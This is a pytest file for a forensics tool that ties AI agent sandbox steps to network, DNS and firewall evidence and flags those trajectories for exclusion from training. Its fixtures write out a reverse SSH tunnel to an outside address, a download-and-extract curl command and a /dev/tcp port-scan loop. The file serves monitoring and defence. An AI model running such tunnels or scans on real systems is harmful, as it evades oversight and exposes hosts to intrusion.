"""Each link basis on tiny tables: an indicator (the destination the command names, a name the
capture saw resolve), the place (the sandbox's address, the host's address after NAT, its public
address at the cloud firewall), time order within the window, a weak time-only link, and what is
never linked: traffic from another place, before the step, or long after it."""

from __future__ import annotations

import pytest

from correlate_cases import at, cluster
from forensics import correlate

TUNNEL = "ssh -fN -R 2222:localhost:22 tunnel@203.0.113.50"


@pytest.fixture
def tiny(tmp_path):
    case = cluster(tmp_path / "case.duckdb")
    yield case
    case.close()


def _tunnel_step(tiny, trajectory="traj-1", sandbox="sbx-1", ip="10.244.1.10", host="node-a", start=60.0):
    tiny.sandbox(trajectory, sandbox, ip, host, start=start - 50, end=start + 600)
    ref = tiny.step(trajectory, 12, start, TUNNEL, end=start + 2)
    tiny.action(ref, trajectory, 12, "tunnel", "ssh_reverse_forward", "forward", "-R 2222:localhost:22")
    tiny.action(ref, trajectory, 12, "tunnel", "ssh_reverse_forward", "ip", "203.0.113.50", ip="203.0.113.50", port=22)
    tiny.action(ref, trajectory, 12, "tunnel", "ssh_reverse_forward", "port", "2222", port=2222)
    return ref


def test_the_destination_named_by_the_command_links_the_sandbox_syn_with_its_delay(tiny):
    _tunnel_step(tiny)
    syn = tiny.net(at(60.3), "node-a", "10.244.1.10", 43218, "203.0.113.50", 22, fmt="netfilter", path="kern.log")
    tiny.link()
    (link,) = tiny.links(effect_tbl="net_events")
    assert (link["trajectory_id"], link["step"], link["effect_kind"]) == ("traj-1", 12, "connection")
    assert (link["effect_evidence_id"], link["effect_locator"]) == syn
    assert link["basis"] == "indicator" and link["confidence"] == pytest.approx(0.97)
    assert link["basis_indicator"] == "destination 203.0.113.50:22 named in the command"
    assert link["basis_place"] == "from 10.244.1.10, the address of sandbox sbx-1 at the time"
    assert link["delta_s"] == pytest.approx(0.3)
    assert not link["weak"]


def test_the_capture_after_nat_and_the_cloud_firewall_by_public_address_are_the_same_step(tiny):
    _tunnel_step(tiny)
    tiny.flow(at(60.3), "node-a", "10.20.1.11", 43218, "203.0.113.50", 22, state="S1", duration=500)
    first = tiny.net(at(60), "node-a", "198.51.100.11", 43218, "203.0.113.50", 22, fmt="alibaba_cloudfw",
                     path="cloudfw.json", src_private_ip="10.20.1.11", ts_end=at(600), bytes_out=900, bytes_in=700)
    # the firewall writes the long session again every ten minutes: still the same connection
    tiny.net(at(60), "node-a", "198.51.100.11", 43218, "203.0.113.50", 22, fmt="alibaba_cloudfw", path="cloudfw.json",
             src_private_ip="10.20.1.11", ts_end=at(1200), bytes_out=300, bytes_in=200)
    tiny.link()
    capture = tiny.links(effect_tbl="flows")[0]
    assert "the address of node-a where sandbox sbx-1 runs (source NAT)" in capture["basis_place"]
    (firewall,) = tiny.links(effect_tbl="net_events")
    assert firewall["effect_count"] == 2
    assert (firewall["effect_evidence_id"], firewall["effect_locator"]) == first
    assert firewall["basis_place"].startswith("from 198.51.100.11 (10.20.1.11), the public address of node-a")
    answers = correlate.incident_records(tiny.con)[0]["answers"]
    (tunnel,) = answers["tunnels"]
    assert tunnel["endpoint"] == {"ip": "203.0.113.50", "port": 22, "user": "tunnel"}
    assert tunnel["status"] == "established"
    assert tunnel["firewall"]["bytes_out"] == 1200 and tunnel["firewall"]["records"] == 2
    assert tunnel["end_source"] == "firewall records"


def test_traffic_from_another_place_or_into_the_host_is_never_the_steps(tiny):
    _tunnel_step(tiny)
    # node-b reaching the same endpoint at the same moment, and the endpoint connecting in
    tiny.net(at(60.3), "node-b", "10.20.1.12", 50000, "203.0.113.50", 22, fmt="netfilter", path="kern-b.log")
    tiny.net(at(61), "node-a", "203.0.113.50", 51000, "10.20.1.11", 22, fmt="netfilter", path="kern.log",
             direction="inbound", action="deny")
    tiny.link()
    assert tiny.links() == []
    assert correlate.check_invariants(tiny.con)["invariant/link_from_elsewhere"] == 0


def test_effects_must_follow_the_step_within_the_window_after_clock_correction(tiny):
    _tunnel_step(tiny)
    tiny.net(at(50), "node-a", "10.244.1.10", 40001, "203.0.113.50", 22, path="kern.log")    # 10 s before
    tiny.net(at(59), "node-a", "10.244.1.10", 40002, "203.0.113.50", 22, path="kern.log")    # 1 s before: stamp tolerance
    tiny.net(at(62 + 121), "node-a", "10.244.1.10", 40003, "203.0.113.50", 22, path="kern.log")  # after the window
    tiny.link()
    (link,) = tiny.links()
    assert link["effect_count"] == 1 and link["delta_s"] == pytest.approx(-1.0)
    assert correlate.check_invariants(tiny.con)["invariant/effect_before_cause"] == 0
    tiny.link(link_window_s=200)
    (wider,) = tiny.links()
    assert wider["effect_count"] == 2


def test_a_name_the_capture_saw_resolve_links_the_address(tiny):
    tiny.sandbox("traj-1", "sbx-1", "10.244.1.10", "node-a", 0, 600)
    ref = tiny.step("traj-1", 13, 100, "curl -sSL -o x.tgz http://dl.example.net/x.tgz && tar xzf x.tgz", end=101)
    tiny.action(ref, "traj-1", 13, "download_exec", "download", "url", "http://dl.example.net/x.tgz",
                hostname="dl.example.net", port=80)
    tiny.action(ref, "traj-1", 13, "download_exec", "download", "host", "dl.example.net", hostname="dl.example.net",
                port=80)
    lookup = tiny.dns(at(100.2), "node-a", "10.20.1.11", "dl.example.net", ["203.0.113.80"])
    tiny.net(at(100.3), "node-a", "10.244.1.10", 43904, "203.0.113.80", 80, path="kern.log")
    tiny.link()
    (syn,) = tiny.links(effect_tbl="net_events")
    assert "dl.example.net resolved to 203.0.113.80 (dns" in syn["basis_indicator"]
    (query,) = tiny.links(effect_kind="dns_query")
    assert (query["effect_evidence_id"], query["effect_locator"]) == lookup
    assert query["basis_indicator"] == "looks up dl.example.net, named in the command"


def test_the_sandbox_address_alone_links_what_it_sent_while_the_step_ran(tiny):
    tiny.sandbox("traj-1", "sbx-1", "10.244.1.10", "node-a", 0, 600)
    ref = tiny.step("traj-1", 5, 100, "python3 fetch.py", end=104)
    tiny.action(ref, "traj-1", 5, "exfil", "python_socket", "binary", "python3")
    tiny.net(at(102), "node-a", "10.244.1.10", 40010, "192.0.2.55", 443, path="kern.log")
    tiny.net(at(130), "node-a", "10.244.1.10", 40011, "192.0.2.56", 443, path="kern.log")   # after the step
    tiny.link()
    (link,) = tiny.links()
    assert link["basis"] == "place" and link["basis_indicator"] is None
    assert link["confidence"] == pytest.approx(0.6)
    assert link["effect_count"] == 1


def test_a_finding_on_linked_rows_inherits_the_link_and_time_alone_is_weak(tiny):
    _tunnel_step(tiny)
    syn = tiny.net(at(60.3), "node-a", "10.244.1.10", 43218, "203.0.113.50", 22, path="kern.log")
    tiny.finding("f-egress", "egress", at(60.3), "node-a", [("net_events", *syn)], src_ip="10.244.1.10",
                 dst_ip="203.0.113.50", dst_port=22)
    # nothing but time and host tie this one to the step
    tiny.finding("f-gpu", "gpu_mining_signature", at(90), "node-a", [("gpu_samples", 99, "line:1")])
    # outside the cluster: never the step's, whatever the time
    tiny.finding("f-scan", "inbound_scan", at(70), "node-a", [("net_events", 99, "line:2")], src_ip="203.0.113.9",
                 dst_ip="10.20.1.11")
    tiny.link()
    (inherited,) = tiny.links(finding_id="f-egress")
    assert inherited["basis"] == "indicator" and inherited["rule"] == "link/80_step_findings"
    (weak,) = tiny.links(finding_id="f-gpu")
    assert weak["basis"] == "time" and weak["weak"] and weak["confidence"] == pytest.approx(0.3)
    assert weak["basis_time"].startswith("weak: starts 30.000 s after the step on the same host")
    assert tiny.links(finding_id="f-scan") == []
    assert correlate.check_invariants(tiny.con)["invariant/link_basis_stated"] == 0


def test_a_reused_sandbox_address_belongs_to_the_lease_of_its_time(tiny):
    _tunnel_step(tiny, start=60)
    # after sbx-1's lease, the pool hands 10.244.1.10 to sbx-2, whose benign step reaches the same endpoint
    tiny.sandbox("traj-2", "sbx-2", "10.244.1.10", "node-a", 5000, 5600)
    tiny.step("traj-2", 1, 5100, "git pull")
    tiny.net(at(5100.3), "node-a", "10.244.1.10", 45000, "203.0.113.50", 22, path="kern.log")
    tiny.link()
    assert tiny.links() == []


def test_trajectories_sharing_an_outside_address_are_one_incident_and_recon_alone_is_none(tiny):
    _tunnel_step(tiny, "traj-1", "sbx-1", "10.244.1.10", "node-a", 60)
    _tunnel_step(tiny, "traj-2", "sbx-2", "10.244.2.10", "node-b", 3000)
    tiny.net(at(60.3), "node-a", "10.244.1.10", 43218, "203.0.113.50", 22, path="kern-a.log")
    tiny.net(at(3000.2), "node-b", "10.244.2.10", 51244, "203.0.113.50", 22, path="kern-b.log", action="deny")
    # a third trajectory only looked at the GPUs
    tiny.sandbox("traj-3", "sbx-3", "10.244.1.11", "node-a", 0, 600)
    recon = tiny.step("traj-3", 1, 100, "nvidia-smi")
    tiny.action(recon, "traj-3", 1, "recon", "gpu_recon", "binary", "nvidia-smi")
    result = tiny.link()
    assert result.incidents == 1
    (incident,) = correlate.incident_records(tiny.con)
    assert incident["trajectories"] == ["traj-1", "traj-2"]
    assert incident["hosts"] == ["node-a", "node-b"]
    statuses = {t["trajectory_id"]: t["status"] for t in incident["answers"]["tunnels"]}
    assert statuses == {"traj-1": "attempted, no answer in evidence (exit code 0)", "traj-2": "blocked by the firewall"}
    assert tiny.case.exclusions()["trajectory_id"].tolist() == ["traj-1", "traj-2"]


def test_a_serious_step_without_any_effect_is_still_excluded_from_training(tiny):
    tiny.sandbox("traj-9", "sbx-9", "10.244.1.19", "node-a", 0, 600)
    ref = tiny.step("traj-9", 3, 100, "ssh -R 9000:localhost:22 x@203.0.113.77", exit_code=255)
    tiny.action(ref, "traj-9", 3, "tunnel", "ssh_reverse_forward", "ip", "203.0.113.77", ip="203.0.113.77", port=22)
    tiny.link()
    excluded = tiny.case.exclusions()
    assert excluded["trajectory_id"].tolist() == ["traj-9"]
    assert excluded["reason"].iloc[0] == "serious agent steps (tunnel) with no effect in evidence"
    assert excluded["incident_id"].isna().all()


def test_a_probe_range_with_its_ports_links_every_attempt_and_the_answer_counts_outcomes(tiny):
    tiny.sandbox("traj-1", "sbx-1", "10.244.1.10", "node-a", 0, 600)
    loop = 'for h in $(seq 1 4); do for p in 22 6379; do timeout 0.3 bash -c "</dev/tcp/10.20.1.$h/$p"; done; done'
    ref = tiny.step("traj-1", 11, 100, loop, end=103, output="10.20.1.2:22 open\n")
    tiny.action(ref, "traj-1", 11, "scan", "dev_tcp_probe", "ip_range", "10.20.1.1-10.20.1.4", ip="10.20.1.1",
                ip_end="10.20.1.4")
    for port in (22, 6379):
        tiny.action(ref, "traj-1", 11, "scan", "dev_tcp_probe", "port", str(port), port=port)
    sport = 41000
    for host in range(1, 5):
        for port in (22, 6379):
            sport += 1
            tiny.net(at(100.2 + sport % 10 * 0.3), "node-a", "10.244.1.10", sport, f"10.20.1.{host}", port,
                     path="kern.log", action="deny" if port == 6379 else "allow", direction="internal")
            if port == 22:
                tiny.flow(at(100.2 + sport % 10 * 0.3), "node-a", "10.20.1.11", sport, f"10.20.1.{host}", port,
                          state="SF" if host == 2 else "S0")
    # 10.20.1.9 is outside the range, 8080 not one of the loop's ports
    tiny.net(at(101), "node-a", "10.244.1.10", 42000, "10.20.1.9", 22, path="kern.log", direction="internal")
    tiny.net(at(101), "node-a", "10.244.1.10", 42001, "10.20.1.3", 8080, path="kern.log", direction="internal")
    tiny.link()
    by_table = {l["effect_tbl"]: l for l in tiny.links(effect_kind="probe")}
    assert by_table["net_events"]["effect_count"] == 8
    assert by_table["flows"]["effect_count"] == 4
    (probe,) = correlate.incident_records(tiny.con)[0]["answers"]["probes"]
    assert probe["answered"] == ["10.20.1.2:22"]
    assert probe["outcomes"] == {"open": 1, "refused": 0, "dropped": 4, "no_answer": 3}
    assert probe["claimed_open_by_output"] == ["10.20.1.2:22"]


def test_investigate_hands_each_setting_to_the_queries_that_declare_it(tiny):
    from forensics.errors import QueryError

    _tunnel_step(tiny)
    tiny.net(at(60 + 90), "node-a", "10.244.1.10", 43218, "203.0.113.50", 22, path="kern.log")
    # a 60 s window leaves the SYN 88 s after the step's end out; gpu_hour_price also reaches detections
    result = tiny.case.investigate_after_ingest(params={"link_window_s": "60", "gpu_hour_price": "3"})
    assert result["link"]["links_by_rule"]["link/10_step_connections"] == 0
    assert result["incidents"] == []
    result = tiny.case.investigate_after_ingest(params={"link_window_s": "120"})
    assert result["link"]["links_by_rule"]["link/10_step_connections"] == 1
    assert [i["trajectories"] for i in result["incidents"]] == [["traj-1"]]
    with pytest.raises(QueryError, match="no detection or link query takes parameter no_such_setting"):
        tiny.case.investigate_after_ingest(params={"no_such_setting": "1"})
